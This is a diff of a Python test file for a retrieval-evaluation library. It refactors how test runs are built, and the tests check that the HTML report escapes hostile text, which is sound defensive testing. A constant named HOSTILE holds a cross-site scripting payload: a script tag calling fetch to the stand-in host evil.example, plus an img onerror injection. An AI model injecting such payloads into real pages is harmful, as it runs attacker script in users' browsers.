@@ -8,11 +8,11 @@ import pytest
 
 from rag_core.cli import main
 from rag_core.compare.run_file import read_run
-from rag_core.compare.snapshot import About, run_of
+from rag_core.compare.snapshot import About, Recorder
 from rag_core.eval_sets.reading import SHIPPED
 from rag_core.filters.cutoff import TopK
 from rag_core.filters.query_must import QueryMust
-from rag_core.measure.experiment import run_all
+from rag_core.measure.experiment import stream
 from rag_core.report import report_html
 from rag_core.report.figures import fall, scale, strip
 from rag_core.report.page import content_of, label_words
@@ -24,8 +24,11 @@ HOSTILE = '</summary><script>fetch("//evil.example/")</script><img src=x onerror
 PIPELINES = [Pipeline((TopK(9),), label="nine"), Pipeline((QueryMust(), TopK(4)), label="rules")]
 
 
-def run_over(cases, pipelines=PIPELINES):
-    return run_of(run_all(cases, pipelines), About("a run", "random"))
+def run_over(cases, pipelines=PIPELINES, about=About("a run", "random")):  # noqa: B008  a frozen value
+    recorder = Recorder(pipelines, 1, about)
+    for outcomes in stream(cases, pipelines):
+        recorder.add(outcomes)
+    return recorder.run()
 
 
 RUN = run_over(made.random_cases(1, 12))
@@ -70,9 +73,8 @@ def hostile_run():
     start = replace(case.candidates, hits=hits, query=query)
     grades = {hit.chunk.id: 1 for hit in hits}
     pipelines = [replace(one, label=HOSTILE) for one in PIPELINES]
-    return run_of(
-        run_all([replace(case, query=query, candidates=start, grades=grades)], pipelines), About(HOSTILE, HOSTILE)
-    )
+    hostile = replace(case, query=query, candidates=start, grades=grades)
+    return run_over([hostile], pipelines, About(HOSTILE, HOSTILE))
 
 
 def test_hostile_text_is_shown_as_text():
